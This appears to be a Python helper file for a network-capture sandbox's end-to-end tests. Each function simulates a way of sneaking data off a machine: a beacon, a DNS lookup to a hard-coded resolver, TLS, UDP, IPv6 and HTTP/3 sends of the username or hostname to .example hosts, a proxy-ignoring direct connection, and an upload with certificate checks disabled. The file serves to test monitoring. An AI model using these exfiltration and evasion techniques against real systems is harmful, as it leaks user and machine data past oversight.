"""Programs that try to get data out without asking: one mode per way of leaving the machine.

Run inside the capture sandbox by tests/e2e/test_tun*.py (this file holds no tests). Every address
here is a documentation address (198.51.100.0/24, 2001:db8::/32) and every name is under .example:
inside the sandbox they can only ever reach the capture.
"""

import json
import os
import socket
import ssl
import sys

HARD_CODED_RESOLVER = ("198.51.100.53", 53)


def dns_a(name: str, resolver=HARD_CODED_RESOLVER) -> str:
    """Ask a resolver of our own choosing, bypassing /etc/resolv.conf and /etc/hosts."""
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    query = b"\x42\x42\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    u.sendto(query, resolver)
    answer = u.recv(512)
    assert answer[:2] == b"\x42\x42" and answer[3] & 0x0F == 0, answer  # our id, NOERROR
    return socket.inet_ntoa(answer[-4:])  # the last record of a one-answer response


def send_and_finish(t: ssl.SSLSocket, data: bytes) -> None:
    """Send, half-close, read to the end: a client that closed with unread data (the server's TLS 1.3
    session ticket) would reset the connection, and a reset can cost its last bytes in transit."""
    t.sendall(data)
    t.shutdown(socket.SHUT_WR)
    try:
        while t.recv(4096):
            pass
    except (ssl.SSLError, OSError):
        pass  # the sink closes without close_notify


def tls_socket():
    name = "tls-socket.example"
    family, kind, proto, _, addr = socket.getaddrinfo(name, 443, socket.AF_INET, socket.SOCK_STREAM)[0]
    raw = socket.create_connection(addr, timeout=5)
    with ssl.create_default_context().wrap_socket(raw, server_hostname=name) as t:
        send_and_finish(t, b"TLS-SOCKET-CANARY user=" + os.environ["USER"].encode() + b"\n")


def beacon():
    with socket.create_connection(("beacon.example", 7000), timeout=5) as s:
        s.sendall(f"BEACON id=42 host={socket.gethostname()}\n".encode())


def udp():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"UDP-CANARY seq=1", ("udp.example", 9999))


def ipv6():
    raw = socket.create_connection(("2001:db8::5", 443), timeout=5)
    with ssl.create_default_context().wrap_socket(raw, server_hostname="v6.example") as t:
        send_and_finish(t, b"V6-CANARY over IPv6\n")


def h3():
    """An HTTP/3 POST over QUIC (aioquic ships with mitmproxy)."""
    import asyncio

    from aioquic.asyncio.client import connect
    from aioquic.asyncio.protocol import QuicConnectionProtocol
    from aioquic.h3.connection import H3_ALPN, H3Connection
    from aioquic.h3.events import DataReceived, HeadersReceived
    from aioquic.quic.configuration import QuicConfiguration

    host = "h3.example"

    class Client(QuicConnectionProtocol):
        def __init__(self, *a, **kw):
            super().__init__(*a, **kw)
            self.h3 = H3Connection(self._quic)
            self.done = asyncio.get_running_loop().create_future()
            self.status = None

        def quic_event_received(self, event):
            for e in self.h3.handle_event(event):
                if isinstance(e, HeadersReceived):
                    self.status = dict(e.headers).get(b":status")
                if isinstance(e, (HeadersReceived, DataReceived)) and e.stream_ended and not self.done.done():
                    self.done.set_result(self.status)

    async def main():
        cfg = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name=host)
        cfg.load_verify_locations(os.environ["SSL_CERT_FILE"])
        async with connect(host, 443, configuration=cfg, create_protocol=Client) as c:
            sid = c._quic.get_next_available_stream_id()
            c.h3.send_headers(sid, [(b":method", b"POST"), (b":scheme", b"https"), (b":authority", host.encode()),
                                    (b":path", b"/h3-collect"), (b"content-type", b"text/plain")])
            c.h3.send_data(sid, b"H3-CANARY over QUIC", end_stream=True)
            c.transmit()
            print("status", (await asyncio.wait_for(c.done, 10)).decode())

    asyncio.run(main())


def dns_hard_coded():
    print(dns_a("exfil-4242.dns.example"))


def forward(port: str):
    """An allowed host is reached by name; the same Host header on an address we chose is not."""
    import http.client

    addr = dns_a("localhost")
    for attempt in range(3):  # a real upstream through a real proxy: now and then a 502 (2 of 4 full runs)
        c = http.client.HTTPConnection(addr, int(port), timeout=30)
        c.request("GET", "/allowed", headers={"Host": f"localhost:{port}"})
        r = c.getresponse()
        body = r.read().decode()
        if r.status != 502:
            break
        print(f"retry after {r.status}", file=sys.stderr)
    print("by-name:", body)
    c = http.client.HTTPConnection("198.51.100.7", int(port), timeout=30)
    c.request("GET", "/chosen-address", headers={"Host": f"localhost:{port}"})
    print("by-address:", c.getresponse().read().decode())


def pinned(cafile: str):
    """Trusts only its own CA list, as pinning clients do: the audit CA is refused."""
    ctx = ssl.create_default_context(cafile=cafile)
    raw = socket.create_connection(("pinned.example", 443), timeout=5)
    try:
        ctx.wrap_socket(raw, server_hostname="pinned.example").close()
    except ssl.SSLError as e:
        print("refused the audit CA:", e.reason)


def opaque():
    with socket.create_connection(("vault.example", 9000), timeout=5) as s:
        s.sendall(os.urandom(512))


def direct():
    """Ignores every proxy variable: resolves the name itself, else falls back to an address it knows."""
    name = "direct.example"
    try:
        addr = socket.getaddrinfo(name, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    except OSError:
        addr = ("198.51.100.7", 443)
    try:
        raw = socket.create_connection(addr, timeout=5)
    except OSError as e:
        print("no direct route:", e)
        return
    with ssl.create_default_context().wrap_socket(raw, server_hostname=name) as t:
        send_and_finish(t, b"DIRECT-CANARY user=" + os.environ["USER"].encode() + b"\n")


def careless():
    """Certificate verification switched off: accepts whatever it is shown."""
    import urllib.request

    req = urllib.request.Request("https://careless.example/upload", data=b"careless=1", method="POST")
    print(urllib.request.urlopen(req, timeout=5, context=ssl._create_unverified_context()).read())


def identity():
    print(json.dumps({"hostname": socket.gethostname(), "machine_id": open("/etc/machine-id").read().strip(),
                      "interfaces": sorted(os.listdir("/sys/class/net"))}))


if __name__ == "__main__":
    globals()[sys.argv[1].replace("-", "_")](*sys.argv[2:])
